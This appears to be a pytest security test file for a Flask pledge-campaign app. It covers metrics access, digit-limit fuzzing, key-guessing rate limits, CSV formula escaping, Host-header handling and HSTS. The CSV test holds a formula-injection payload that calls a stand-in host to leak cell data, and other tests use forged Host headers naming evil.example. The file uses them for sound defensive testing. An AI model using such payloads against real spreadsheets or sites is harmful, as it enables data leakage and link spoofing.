"""What a stranger can learn or plant: metrics, keys by guessing, formulas in CSVs, links with their host."""

from __future__ import annotations

import csv
import io
import re

import pytest
from flask import Flask
from flask_migrate import upgrade
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pledges.extensions import db
from pledges.models import Pledge
from pledges.services.seeding import NeighborhoodSpec, import_neighborhoods, seed

from .conftest import make_app
from .factories import bearer, make_key, post_pledge

PLEDGES = "/api/v1/campaigns/current/pledges"
IMPORT = "/api/v1/campaigns/current/pledges/import?dry_run=true"
BULK_REMOVE = "/api/v1/admin/pledges/bulk-remove"
TOTALS = "/api/v1/campaigns/current/totals"
REMOTE = "203.0.113.9"
LONGEST = 4300  # sys.get_int_max_str_digits(): the longest integer int() reads by default


def ready_app(database_url: str, tmp_path, **settings: object) -> Flask:
    app = make_app(database_url, tmp_path, **settings)
    with app.app_context():
        upgrade()
        seed(goal=100)
    return app


# /metrics


def test_metrics_are_a_404_to_a_remote_client_behind_the_proxy(database_url, tmp_path):
    client = ready_app(database_url, tmp_path, TRUSTED_PROXIES=1).test_client()
    post_pledge(client)

    response = client.get("/metrics", headers={"X-Forwarded-For": REMOTE})

    assert response.status_code == 404
    assert "porchlight_pledges_total" not in response.get_data(as_text=True)


def test_metrics_are_a_404_to_a_remote_client_without_a_proxy(client):
    assert client.get("/metrics", environ_base={"REMOTE_ADDR": REMOTE}).status_code == 404


@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "::ffff:127.0.0.1"])
def test_metrics_are_served_to_the_loopback_address_when_no_token_is_set(client, address):
    response = client.get("/metrics", environ_base={"REMOTE_ADDR": address})

    assert response.status_code == 200
    assert "porchlight_pledges_total" in response.get_data(as_text=True)
    assert response.headers["Cache-Control"] == "no-store"


def test_with_a_token_set_metrics_need_it_as_a_bearer_token_even_from_loopback(database_url, tmp_path):
    token = "m3trics-token-long-enough-to-guess-never"
    client = ready_app(database_url, tmp_path, METRICS_TOKEN=token).test_client()

    assert client.get("/metrics").status_code == 404
    assert client.get("/metrics", headers=bearer("wrong")).status_code == 404
    assert client.get("/metrics", headers=bearer(token[:-1])).status_code == 404
    assert client.get("/metrics", headers={"Authorization": f"Basic {token}"}).status_code == 404
    answered = client.get("/metrics", headers=bearer(token), environ_base={"REMOTE_ADDR": REMOTE})
    assert answered.status_code == 200
    assert "porchlight_request_duration_seconds" in answered.get_data(as_text=True)


# Numbers longer than int() reads


def test_a_pledge_with_a_4301_digit_number_is_a_400_not_a_500(client):
    body = '{"kind": "resident", "neighborhood": "allentown", "email": "n@example.org", "name": %s}'

    response = client.post(PLEDGES, data=body % ("9" * 4301), content_type="application/json")

    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == "bad_request"
    assert "4300" in response.get_json()["error"]["message"]


def json_number(digits: int, sign: str, lead: str, rest: str, tail: str) -> str:
    return sign + lead + (rest * digits)[: digits - 1] + tail


numbers = st.builds(
    json_number,
    digits=st.integers(min_value=LONGEST - 5, max_value=LONGEST + 5),
    sign=st.sampled_from(["", "-"]),
    lead=st.sampled_from("123456789"),
    rest=st.text(alphabet="0123456789", min_size=1, max_size=7),
    tail=st.sampled_from(["", "", "", ".5", "e3", "E-2"]),  # mostly integers: they are what int() reads
)
pledge_fields = st.sampled_from(["kind", "neighborhood", "email", "name", "show_name"])
admin_fields = st.sampled_from(["since", "until", "reason", "dry_run", "campaign", "email_domain"])


def with_number(template: str, field: str, number: str) -> str:
    return template.replace(f'"{field}": "x"', f'"{field}": {number}')


def refuses_long_integers(response, number: str) -> None:
    is_long_integer = number.lstrip("-").isdigit() and len(number.lstrip("-")) > LONGEST
    assert response.status_code < 500, (number[:12], len(number), response.status_code)
    if is_long_integer:
        assert response.status_code == 400, (len(number), response.status_code)
        assert response.get_json()["error"]["code"] == "bad_request"
    else:
        assert response.status_code in (200, 201, 400, 409, 422), (len(number), response.status_code)


FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@FUZZ
@given(number=numbers, field=pledge_fields)
def test_numbers_at_the_digit_limit_never_break_a_pledge(seeded_app, number, field):
    template = '{"kind": "x", "neighborhood": "x", "email": "x", "name": "x", "show_name": "x"}'

    response = seeded_app.test_client().post(
        PLEDGES, data=with_number(template, field, number), content_type="application/json"
    )

    refuses_long_integers(response, number)
    with seeded_app.app_context():
        assert db.session.scalar(db.select(db.func.count()).select_from(Pledge)) == 0


@pytest.fixture
def intake_token(seeded_app) -> str:
    return make_key(seeded_app, "library-table", scope="intake")


@pytest.fixture
def admin_token(seeded_app) -> str:
    return make_key(seeded_app, "mayors-office", scope="admin")


@FUZZ
@given(number=numbers, field=pledge_fields, wrapped=st.booleans())
def test_numbers_at_the_digit_limit_never_break_a_json_import(
    seeded_app, intake_token, number, field, wrapped
):
    row = '{"kind": "x", "neighborhood": "x", "email": "x", "name": "x", "show_name": "x"}'
    pledges = f"[{with_number(row, field, number)}]" if wrapped else number
    body = f'{{"pledges": {pledges}}}'

    response = seeded_app.test_client().post(
        IMPORT, data=body, content_type="application/json", headers=bearer(intake_token)
    )

    refuses_long_integers(response, number)


@FUZZ
@given(number=numbers, field=admin_fields)
def test_numbers_at_the_digit_limit_never_break_an_admin_route(seeded_app, admin_token, number, field):
    template = (
        '{"since": "x", "until": "x", "reason": "x", "dry_run": "x", "campaign": "x", "email_domain": "x"}'
    )

    response = seeded_app.test_client().post(
        BULK_REMOVE,
        data=with_number(template, field, number),
        content_type="application/json",
        headers=bearer(admin_token),
    )

    refuses_long_integers(response, number)


# Guessing keys


@pytest.mark.parametrize("given_key", ["wrong", "revoked"])
def test_wrong_and_revoked_keys_count_against_the_address_read_limit(database_url, tmp_path, given_key):
    app = ready_app(database_url, tmp_path, API_RATE_LIMIT="3/minute")
    token = "pl_not_a_key_at_all"
    if given_key == "revoked":
        token = make_key(app, "old-partner")
        assert app.test_cli_runner().invoke(args=["keys", "revoke", "old-partner"]).exit_code == 0
    client = app.test_client()

    guesses = [client.get(TOTALS, headers=bearer(token)) for _ in range(4)]

    assert [guess.status_code for guess in guesses] == [401, 401, 401, 429]
    assert guesses[-1].get_json()["error"]["code"] == "rate_limited"
    assert guesses[-1].headers["X-RateLimit-Limit"] == "3"
    assert "Retry-After" in guesses[-1].headers
    assert client.get(TOTALS).status_code == 429  # the same bucket as the address's anonymous reads


def test_a_bad_key_on_a_write_route_is_counted_as_a_read_too(database_url, tmp_path):
    client = ready_app(database_url, tmp_path, API_RATE_LIMIT="2/minute").test_client()

    statuses = [post_pledge_with(client, bearer("pl_guess")).status_code for _ in range(3)]

    assert statuses == [401, 401, 429]


def post_pledge_with(client, headers):
    body = {"kind": "resident", "neighborhood": "allentown", "email": "g@example.org"}
    return client.post(PLEDGES, json=body, headers=headers)


# Formulas in CSV


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prizes")',
    "+1 Club",
    "-2 Street",
    "@SUM(1+1)",
    "\tTabbed Heights",
    "\rCarriage Return",
]


def test_no_cell_of_totals_csv_can_start_a_formula_and_numbers_stay_numbers(app):
    with app.app_context():
        seed(goal=100)
        import_neighborhoods([NeighborhoodSpec(name) for name in [*HOSTILE_NAMES, "Plain Park"]])
    client = app.test_client()
    post_pledge(client, neighborhood="plain-park")

    rows = list(csv.reader(io.StringIO(client.get("/api/v1/campaigns/current/totals.csv").text)))

    names = {row[1] for row in rows[1:]}
    assert {"'" + name for name in HOSTILE_NAMES} <= names
    assert "Plain Park" in names
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert all(cell.isdigit() for cell in row[2:]), row
    plain = next(row for row in rows if row[1] == "Plain Park")
    assert plain[2:] == ["1", "0", "1"]


# Absolute links and the Host header


def shown_businesses_app(database_url, tmp_path, **settings: object) -> Flask:
    app = ready_app(database_url, tmp_path, BUSINESS_NAMES="immediate", **settings)
    client = app.test_client()
    for number in range(2):
        post_pledge(client, kind="business", name=f"Shop {number}", show_name=True)
    return app


BUSINESSES = "/api/v1/campaigns/current/businesses?limit=1"
FORGED = {"X-Forwarded-For": REMOTE, "X-Forwarded-Host": "evil.example"}


def test_a_forwarded_host_is_ignored_unless_the_proxy_is_trusted_to_set_it(database_url, tmp_path):
    client = shown_businesses_app(database_url, tmp_path, TRUSTED_PROXIES=1).test_client()

    next_url = client.get(BUSINESSES, headers=FORGED).get_json()["next"]

    assert next_url.startswith("http://localhost/api/v1/campaigns/current/businesses?")


def test_with_trusted_proxy_host_the_proxy_names_the_host(database_url, tmp_path):
    app = shown_businesses_app(database_url, tmp_path, TRUSTED_PROXIES=1, TRUSTED_PROXY_HOST=True)

    next_url = app.test_client().get(BUSINESSES, headers=FORGED).get_json()["next"]

    assert next_url.startswith("http://evil.example/")


def test_with_public_url_set_links_name_it_whatever_host_is_asked_for(database_url, tmp_path):
    public = "https://porchlight.example"
    app = shown_businesses_app(
        database_url, tmp_path, TRUSTED_PROXIES=1, TRUSTED_PROXY_HOST=True, PUBLIC_URL=public
    )
    client = app.test_client()
    admin = make_key(app, "mayors-office", scope="admin")

    businesses = client.get(BUSINESSES, headers={**FORGED, "Host": "evil.example"}).get_json()
    thanks = client.get("/thanks", headers={**FORGED, "Host": "evil.example"}).get_data(as_text=True)
    admin_page = client.get(
        "/api/v1/admin/pledges?limit=1", headers={**bearer(admin), "Host": "evil.example"}
    ).get_json()

    assert businesses["next"].startswith(public + "/api/v1/campaigns/current/businesses?limit=1&cursor=")
    assert f'href="{public}/"' in thanks and "evil.example" not in thanks
    assert admin_page["next"].startswith(public + "/api/v1/admin/pledges?")


LANGUAGE_LINK = re.compile(r'<a href="([^"]*)" lang="es"')


@pytest.mark.parametrize(
    "query",
    [
        "_external=1",
        "_external=1&_scheme=javascript",
        "_anchor=x&_method=POST&_external=yes",
        "lang=en&_scheme=ftp",
    ],
)
def test_a_language_link_keeps_no_url_building_arguments_from_the_query(client, query):
    page = client.get(f"/?{query}", headers={"Host": "evil.example"}).get_data(as_text=True)

    assert LANGUAGE_LINK.search(page).group(1) == "/?lang=es"


def test_a_language_link_keeps_the_arguments_a_page_reads(client):
    page = client.get("/dashboard?kiosk=1&_external=1&utm_source=x").get_data(as_text=True)

    assert LANGUAGE_LINK.search(page).group(1) == "/dashboard?kiosk=1&amp;lang=es"


# HSTS


def test_https_answers_carry_strict_transport_security_and_http_ones_do_not(database_url, tmp_path):
    client = ready_app(database_url, tmp_path, TRUSTED_PROXIES=1).test_client()
    behind_https = {"X-Forwarded-Proto": "https", "X-Forwarded-For": REMOTE}

    for path in ("/", TOTALS):
        assert (
            client.get(path, headers=behind_https).headers["Strict-Transport-Security"] == "max-age=31536000"
        )
        assert (
            "Strict-Transport-Security" not in client.get(path, headers={"X-Forwarded-For": REMOTE}).headers
        )
    direct = client.get("/", base_url="https://localhost")
    assert direct.headers["Strict-Transport-Security"] == "max-age=31536000"
